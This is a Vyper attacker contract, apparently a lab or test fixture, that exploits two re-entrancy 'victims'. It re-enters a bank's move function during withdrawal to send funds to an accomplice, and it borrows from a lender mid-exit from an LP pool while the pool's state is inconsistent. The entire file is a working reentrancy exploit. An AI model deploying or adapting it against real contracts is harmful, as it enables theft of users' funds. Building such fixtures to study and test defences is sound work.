# pragma version 0.4.3
"""@title Attacker contract for both re-entrancy victims."""

interface Bank:
    def deposit(): payable
    def move(to: address, amount: uint256): nonpayable
    def withdraw(): nonpayable

interface LP:
    def join(): payable
    def exit(shares: uint256): nonpayable
    def shares_of(who: address) -> uint256: view

interface Lender:
    def borrow(amount: uint256): nonpayable

mode: uint256
target: address
lender: address
accomplice: address
amount: uint256


@external
@payable
def hit_bank(bank: address, accomplice: address):
    self.mode = 1
    self.target = bank
    self.accomplice = accomplice
    extcall Bank(bank).deposit(value=msg.value)
    extcall Bank(bank).withdraw()
    self.mode = 0


@external
@payable
def hit_lender(lp: address, lender: address, amount: uint256):
    self.mode = 2
    self.target = lp
    self.lender = lender
    self.amount = amount
    extcall LP(lp).join(value=msg.value)
    extcall LP(lp).exit(staticcall LP(lp).shares_of(self))
    self.mode = 0


@external
@payable
def __default__():
    if self.mode == 1:
        self.mode = 0
        extcall Bank(self.target).move(self.accomplice, msg.value)
    elif self.mode == 2:
        self.mode = 0
        extcall Lender(self.lender).borrow(self.amount)
